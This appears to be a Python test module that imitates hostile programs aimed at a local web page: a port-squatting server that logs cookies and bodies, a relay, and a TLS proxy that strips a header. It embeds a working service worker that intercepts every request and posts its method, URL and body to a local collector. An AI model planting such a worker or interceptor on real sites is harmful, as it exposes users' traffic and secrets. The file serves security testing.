"""Programs of somebody else, for tests of the page's door; they say what they are told, in lines of JSON.

python -m tests.page.hostile site PORT…              a web server, or a squatter on the page's port
python -m tests.page.hostile relay FROM TO           passes bytes on, as SSH does
python -m tests.page.hostile proxy FROM TO [HEADER]  does so behind TLS, without that header
"""

from __future__ import annotations

import asyncio
import datetime as dt
import json
import ssl
import sys
import tempfile

from aiohttp import WSMsgType, web
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat

PLANTING = """<!doctype html><title>theirs</title><script>
navigator.serviceWorker?.register("/worker.js").then(() => navigator.serviceWorker.ready).then(() => {
    document.title = "planted";
});
</script>"""
WORKER = """
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
    const seen = event.request.clone().text().then((body) => fetch("http://127.0.0.1:7489/seen", {
        method: "POST", mode: "no-cors", body: `${event.request.method} ${event.request.url} ${body}`,
    }));
    event.waitUntil(seen);
    event.respondWith(fetch(event.request));
});
"""


def say(**what: object) -> None:
    """One line of JSON."""
    sys.stdout.write(json.dumps(what) + "\n")
    sys.stdout.flush()


async def answer(request: web.Request) -> web.StreamResponse:
    """Note what a browser says, and give it a page with a worker, or words that prove nothing."""
    if request.path == "/v1/ws":
        ws = web.WebSocketResponse(protocols=("lan-agent.v1.json",))
        await ws.prepare(request)
        async for message in ws:
            if message.type is WSMsgType.TEXT:
                say(frame=json.loads(message.data))
                await ws.send_json({"nonce": "n" * 64, "signature": "A" * 86 + "=="})
        return ws
    body = (await request.read()).decode(errors="replace")
    say(path=request.path, host=request.host, cookie=request.headers.get("Cookie", ""), body=body)
    if request.path == "/worker.js":
        return web.Response(text=WORKER, content_type="text/javascript")
    return web.Response(text=PLANTING, content_type="text/html")


async def site(*ports: str) -> None:
    """Serve at these ports, on both loopback addresses."""
    app = web.Application()
    app.router.add_route("*", "/{path:.*}", answer)
    runner = web.AppRunner(app)
    await runner.setup()
    for port in ports:
        for host in ("127.0.0.1", "::1"):
            await web.TCPSite(runner, host, int(port)).start()
    say(ready=True)
    await asyncio.Event().wait()


async def proxy(here: str, there: str, dropped: str = "-") -> None:
    """Pass on what comes by TLS, whose certificate nobody knows."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "proxy")])
    begin, end = (dt.datetime(year, 1, 1, tzinfo=dt.UTC) for year in (2026, 2100))
    certificate = x509.CertificateBuilder(name, name, key.public_key(), 1, begin, end)
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    with tempfile.NamedTemporaryFile() as pem:
        pem.write(key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))
        pem.write(certificate.sign(key, SHA256()).public_bytes(Encoding.PEM))
        pem.flush()
        context.load_cert_chain(pem.name)
    await relay(here, there, context, dropped)


async def relay(here: str, there: str, context: ssl.SSLContext | None = None, dropped: str = "-") -> None:
    """Pass on what comes to one place to another; a place is `HOST:PORT` or the path of a Unix socket."""

    async def connected(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if "/" in there:
            far = await asyncio.open_unix_connection(there)
        else:
            far = await asyncio.open_connection(*there.split(":"))
        await asyncio.gather(copied(reader, far[1]), copied(far[0], writer), return_exceptions=True)

    async def copied(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while data := await reader.read(65536):
                writer.write(data.replace(f"\n{dropped}:".encode(), b"\nX-Was:"))
                await writer.drain()
        finally:
            writer.close()

    if "/" in here:
        server = await asyncio.start_unix_server(connected, here)
    else:
        server = await asyncio.start_server(connected, *here.split(":"), ssl=context)
    say(ready=True)
    await server.serve_forever()


if __name__ == "__main__":
    match sys.argv[1:]:
        case ["site", *ports]:
            asyncio.run(site(*ports))
        case ["relay", here, there]:
            asyncio.run(relay(here, there))
        case ["proxy", *places]:
            asyncio.run(proxy(*places))
